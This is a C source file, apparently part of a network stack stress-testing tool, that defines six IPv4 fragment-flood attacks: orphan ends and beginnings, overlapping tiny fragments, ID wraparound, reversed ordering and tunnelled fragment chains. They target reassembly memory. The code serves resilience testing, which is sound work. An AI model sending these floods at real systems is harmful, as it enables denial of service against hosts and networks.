/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Floods of fragments: datagrams that are never completed, that overlap, that come backwards, that hang on one another.
 */
#include <stddef.h>

#include "attacks.h"

#define SENDERS  0x0a000000u
#define RECEIVER 0xc0000207u

static void send_first(struct writer *w, uint64_t i, uint32_t payload)
{
    put_fragment(w, SENDERS + (uint32_t)(i >> 16), RECEIVER, (uint16_t)i, MORE_FRAGMENTS, payload);
    put_udp(w, 40000, 5004, 4000);
    put_zeros(w, payload - 8);
    writer_send(w);
}

/* `offset` in units of 8 bytes. */
static void send_later(struct writer *w, uint64_t i, uint16_t offset, uint32_t payload)
{
    put_fragment(w, SENDERS + (uint32_t)(i >> 16), RECEIVER, (uint16_t)i, offset, payload);
    put_zeros(w, payload);
    writer_send(w);
}

/* The end of a datagram of which nothing else ever comes: every packet waits. */
static void ends(struct writer *w, uint64_t i)
{
    send_later(w, i, 185, 8);
}

/* The beginning of one that nothing ever follows. */
static void beginnings(struct writer *w, uint64_t i)
{
    send_first(w, i, 8);
}

/* Datagrams of tiny fragments, each sent twice and overlapping. */
static void tiny(struct writer *w, uint64_t i)
{
    send_first(w, i, 8);
    for (uint16_t offset = 1; offset < 8; offset++) {
        send_later(w, i, offset | MORE_FRAGMENTS, 16);
        send_later(w, i, offset | MORE_FRAGMENTS, 8);
    }
}

/* All identifications of one pair of hosts, again and again: what waits is credited when its number is used again. */
static void wrapping(struct writer *w, uint64_t i)
{
    uint64_t number = i % 65536;
    if (i / 65536 % 2 == 0)
        send_later(w, number, 185, 8);
    else
        send_first(w, number, 8);
}

/* Ends come thousands of packets before their beginnings. */
static void backwards(struct writer *w, uint64_t i)
{
    const uint64_t distance = 100000;
    send_later(w, i, 185, 8);
    if (i >= distance)
        send_first(w, i - distance, 8);
}

/* The first fragment of one datagram holds the end of the next one (IPv4 in IPv4): a chain without end. */
static void chains(struct writer *w, uint64_t i)
{
    put_ipv4(w, SENDERS, RECEIVER, IP_IPV4, 28);
    w->packet[4] = (uint8_t)(i >> 8); /* the identification */
    w->packet[5] = (uint8_t)i;
    w->packet[6] = MORE_FRAGMENTS >> 8;
    put_ipv4(w, SENDERS, RECEIVER, IP_IPV4, 8);
    w->packet[24] = (uint8_t)((i + 1) >> 8);
    w->packet[25] = (uint8_t)(i + 1);
    w->packet[27] = 1; /* at 8 bytes */
    put_zeros(w, 8);
    writer_send(w);
}

const struct attack fragment_attacks[] = {
    {"ends", LINK_RAW, ends},
    {"beginnings", LINK_RAW, beginnings},
    {"tiny", LINK_RAW, tiny},
    {"wrapping", LINK_RAW, wrapping},
    {"backwards", LINK_RAW, backwards},
    {"chains", LINK_RAW, chains},
    {NULL, 0, NULL},
};
